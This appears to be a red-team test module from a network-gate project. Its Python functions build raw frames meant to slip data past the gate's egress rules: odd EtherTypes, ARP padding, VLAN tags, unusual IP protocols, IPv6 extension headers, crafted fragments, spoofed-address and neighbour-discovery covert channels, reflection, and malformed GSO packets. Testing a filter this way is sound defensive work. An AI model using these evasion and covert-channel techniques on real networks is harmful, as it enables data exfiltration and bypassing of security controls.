"""The thief with frames of his own: below, beside and around what the gate's rules match."""

from __future__ import annotations

import struct
from collections.abc import Iterator
from itertools import cycle

from tidegate.gate.worlds import (
    INNER_V4,
    INNER_V6,
    INSIDE_V4,
    INSIDE_V6,
    OUTSIDE_V4,
    OUTSIDE_V6,
)
from tidegate.redteam import thief_frames as frames
from tidegate.redteam.thief_kit import API, BROADCAST, DNS, SSH, Kit, Wire, raw, vnet_header

_FULL = 1_400
_NOT_IP = (0x0000, 0x0005, 0x0600, 0x0842, 0x1337, 0x6558, 0x8035, 0x8847, 0x8863, 0x8864, 0x88CC)
_NOT_IP_EITHER = (0x888E, 0x88A8, 0x88E5, 0x88F7, 0x8906, 0x9000, 0xFFFF)
"""Lengths and EtherTypes: 802.3, MPLS, PPPoE, LLDP, 802.1X, MACsec, PTP, and some that are none."""
_MULTICAST = tuple(bytes.fromhex(one) for one in ("0180c2000000", "0180c200000e", "01005e000001"))
_PROTOCOLS = (0, 2, 4, 33, 41, 46, 47, 50, 51, 88, 89, 103, 112, 115, 132, 136, 137, 253, 255)
"""IGMP, IP in IP, DCCP, GRE, ESP, SCTP, UDP-Lite and others that no class names."""
_GSO_TCP4, _GSO_UDP, _GSO_TCP6, _GSO_UDP_L4 = 1, 3, 4, 5
_PORTS = 40_000


def raw_l2(kit: Kit) -> None:
    """Frames that are not IP, ARP with data behind it, VLAN tags once and twice, to everybody."""
    with raw() as sender:
        wire = Wire(kit, sender)
        for number in _numbers(kit):
            to = (wire.gate, BROADCAST, *_MULTICAST)[number % 5]
            for kind in (*_NOT_IP, *_NOT_IP_EITHER):
                wire.frame(kind, kit.piece(_FULL), to=to)
            asked = frames.arp(1, (wire.own, INNER_V4), (bytes(6), OUTSIDE_V4))
            wire.frame(frames.ARP, asked + kit.piece(1_000), to=to)
            answer = frames.arp(2, (b"\x02" + kit.run(5)[1], OUTSIDE_V4), (wire.gate, INSIDE_V4))
            wire.frame(frames.ARP, answer + kit.piece(1_000), to=to)
            inside = _datagram(kit, INNER_V4, OUTSIDE_V4, DNS, _FULL)
            for tags in ((0,), (7,), (0, 0), (7, 9), (4095,)):
                wire.frame(frames.IPV4, inside, to=to, tags=tags)


def protocols(kit: Kit) -> None:
    """IP protocols that no class names, v4 and v6, and headers that lie about what follows."""
    with raw() as sender:
        wire = Wire(kit, sender)
        for _ in _numbers(kit):
            for protocol in _PROTOCOLS:
                wire.ip(frames.ipv4(INNER_V4, OUTSIDE_V4, protocol, kit.piece(_FULL)))
                wire.ip(frames.ipv6(INNER_V6, OUTSIDE_V6, protocol, kit.piece(_FULL)))
            # Bytes behind the end that the packet states.
            short = frames.ipv4(INNER_V4, OUTSIDE_V4, frames.UDP, _udp4(b"x"))
            wire.ip(short + kit.piece(_FULL))
            wire.ip(frames.ipv6(INNER_V6, OUTSIDE_V6, 59, kit.piece(_FULL)))


def ipv6_headers(kit: Kit) -> None:
    """Extension headers full of data, one behind another, and a routing header."""
    with raw() as sender:
        wire = Wire(kit, sender)
        for number in _numbers(kit):
            port = (DNS, API)[number % 2]
            last, body = _upper6(kit, port, 100)
            for kind in (frames.DESTINATION_OPTIONS, frames.HOP_BY_HOP, frames.ROUTING):
                header = frames.options_header(last, kit.piece(900))
                wire.ip(frames.ipv6(INNER_V6, OUTSIDE_V6, kind, header + body))
            twice = frames.options_header(frames.DESTINATION_OPTIONS, kit.piece(500))
            both = twice + frames.options_header(last, kit.piece(500)) + body
            wire.ip(frames.ipv6(INNER_V6, OUTSIDE_V6, frames.HOP_BY_HOP, both))


def fragments(kit: Kit) -> None:
    """Fragments of both versions: first ones too short for a port, overlapping, atomic ones."""
    with raw() as sender:
        wire = Wire(kit, sender)
        for number in _numbers(kit):
            port = (DNS, API)[number % 2]
            six, body = _upper6(kit, port, 1_200)
            four = _udp4(kit.piece(1_200))
            for start, end, more in (
                (0, 8, True),
                (8, 1_200, True),
                (0, 1_200, True),
                (0, 1_200, False),
            ):
                header = frames.fragment_header(six, start, more, number)
                wire.ip(
                    frames.ipv6(INNER_V6, OUTSIDE_V6, frames.FRAGMENT, header + body[start:end])
                )
                packet = frames.ipv4(
                    INNER_V4,
                    OUTSIDE_V4,
                    frames.UDP,
                    four[start:end],
                    identity=number & 0xFFFF,
                    fragment=(start, more),
                )
                wire.ip(packet)
            options = b"\x9e\x28" + kit.piece(38)
            wire.ip(frames.ipv4(INNER_V4, OUTSIDE_V4, frames.UDP, _udp4(b"x"), options=options))


def spoofed(kit: Kit) -> None:
    """Addresses of others as senders; in IPv6 the sender's address itself is the message."""
    with raw() as sender:
        wire = Wire(kit, sender)
        for number in _numbers(kit):
            four = f"{11 + number % 80}.{number // 80 % 256}.{number % 251}.{1 + number % 250}"
            wire.ip(_datagram(kit, four, OUTSIDE_V4, DNS, _FULL))
            wire.ip(_segment(kit, four, OUTSIDE_V4, (API, SSH)[number % 2], _FULL))
            six = _as_address(kit.piece(16))
            wire.ip(_datagram(kit, six, OUTSIDE_V6, DNS, _FULL))
            for _ in range(8):
                six = _as_address(kit.piece(16))
                ports = (1024 + number % _PORTS, DNS)
                body = frames.udp(six, OUTSIDE_V6, ports, b"")
                service, label = number & 0xFF, number & 0xFFFFF
                wire.ip(
                    frames.ipv6(six, OUTSIDE_V6, frames.UDP, body, service=service, label=label)
                )


def reflected(kit: Kit) -> None:
    """Has the gate speak for him: errors and answers to a sender that is the receiver's address."""
    with raw() as sender:
        wire = Wire(kit, sender)
        for number in _numbers(kit):
            dying4 = _udp4(kit.piece(500), source=OUTSIDE_V4)
            wire.ip(frames.ipv4(OUTSIDE_V4, "10.81.2.9", frames.UDP, dying4, ttl=1))
            echo4 = frames.echo(OUTSIDE_V4, INSIDE_V4, kit.piece(_FULL), sequence=number)
            wire.ip(frames.ipv4(OUTSIDE_V4, INSIDE_V4, frames.ICMP, echo4))
            closed4 = frames.udp(OUTSIDE_V4, INSIDE_V4, (DNS, 9), kit.piece(500))
            wire.ip(frames.ipv4(OUTSIDE_V4, INSIDE_V4, frames.UDP, closed4))
            dying6 = frames.udp(OUTSIDE_V6, "fd81:2::9", (DNS, DNS), kit.piece(1_000))
            wire.ip(frames.ipv6(OUTSIDE_V6, "fd81:2::9", frames.UDP, dying6, hops=1))
            echo6 = frames.echo(OUTSIDE_V6, INSIDE_V6, kit.piece(_FULL), sequence=number)
            wire.ip(frames.ipv6(OUTSIDE_V6, INSIDE_V6, frames.ICMPV6, echo6))
            kit.pause(0.001)


def asking(kit: Kit) -> None:
    """Sends to neighbours that do not exist: which ones the gate then asks for is the message."""
    with raw() as sender:
        wire = Wire(kit, sender)
        for number in _numbers(kit):
            offset, five = kit.run(5)
            to = _as_address(bytes.fromhex("fd81000200000000") + offset.to_bytes(3, "big") + five)
            body = frames.udp(INNER_V6, to, (DNS, DNS), b"")
            wire.ip(frames.ipv6(INNER_V6, to, frames.UDP, body))
            four = f"10.81.2.{3 + number % 250}"
            wire.ip(_datagram(kit, INNER_V4, four, DNS, 8))
            kit.pause(0.001)


def super_packets(kit: Kit) -> None:
    """Super-packets made by hand, down to parts of a byte, with kinds and sizes that do not fit."""
    with raw(vnet=True) as sender:
        wire = Wire(kit, sender, vnet=True)
        for number, size in enumerate(cycle((8, 48, 1, 536, 1448))):
            if not kit.running():
                return
            length = min(60_000, 100 * size) if size > 1 else 200
            data = b"".join(kit.piece(min(length, _FULL)) for _ in range(-(-length // _FULL)))
            ports = (1024 + number % _PORTS, API)
            four = frames.tcp(INNER_V4, OUTSIDE_V4, ports, data, sequence=number, flags=frames.ACK)
            whole4 = frames.ipv4(INNER_V4, OUTSIDE_V4, frames.TCP, four)
            six = frames.tcp(INNER_V6, OUTSIDE_V6, ports, data, sequence=number, flags=frames.ACK)
            whole6 = frames.ipv6(INNER_V6, OUTSIDE_V6, frames.TCP, six)
            wire.super_packet(vnet_header(_GSO_TCP4, 54, size, (34, 16)), whole4)
            wire.super_packet(vnet_header(_GSO_TCP6, 74, size, (54, 16)), whole6)
            datagram = _udp4(data)
            whole = frames.ipv4(INNER_V4, OUTSIDE_V4, frames.UDP, datagram)
            wire.super_packet(vnet_header(_GSO_UDP_L4, 42, size, (34, 6)), whole)
            wire.super_packet(vnet_header(_GSO_UDP, 42, max(8, size & ~7), (34, 6)), whole)
            # Headers that lie: another kind's, longer than what is there, a sum outside of it.
            wire.super_packet(vnet_header(_GSO_TCP6, 54, size, (34, 16)), whole4)
            wire.super_packet(vnet_header(_GSO_TCP4, 14, size, (34, 16)), whole4)
            wire.super_packet(vnet_header(_GSO_TCP4, 1_500, size, (60, 60_000)), whole4)


def _numbers(kit: Kit) -> Iterator[int]:
    number = 0
    while kit.running():
        yield number
        number += 1


def _udp4(body: bytes, *, source: str = INNER_V4) -> bytes:
    return frames.udp(source, OUTSIDE_V4, (DNS, DNS), body)


def _datagram(kit: Kit, source: str, to: str, port: int, length: int) -> bytes:
    body = frames.udp(source, to, (1024 + kit.sent % _PORTS, port), kit.piece(length))
    return _ip(source, to, frames.UDP, body)


def _segment(kit: Kit, source: str, to: str, port: int, length: int) -> bytes:
    ports = (1024 + kit.sent % _PORTS, port)
    flags = frames.SYN | frames.PUSH
    body = frames.tcp(source, to, ports, kit.piece(length), sequence=kit.sent, flags=flags)
    return _ip(source, to, frames.TCP, body)


def _ip(source: str, to: str, protocol: int, body: bytes) -> bytes:
    return (frames.ipv6 if ":" in to else frames.ipv4)(source, to, protocol, body)


def _upper6(kit: Kit, port: int, length: int) -> tuple[int, bytes]:
    ports = (1024 + kit.sent % _PORTS, port)
    data = kit.piece(length)
    if port == DNS:
        return frames.UDP, frames.udp(INNER_V6, OUTSIDE_V6, ports, data)
    made = frames.tcp(INNER_V6, OUTSIDE_V6, ports, data, sequence=1, flags=frames.ACK)
    return frames.TCP, made


def _as_address(value: bytes) -> str:
    return ":".join(f"{high:x}" for high in struct.unpack("!8H", value))
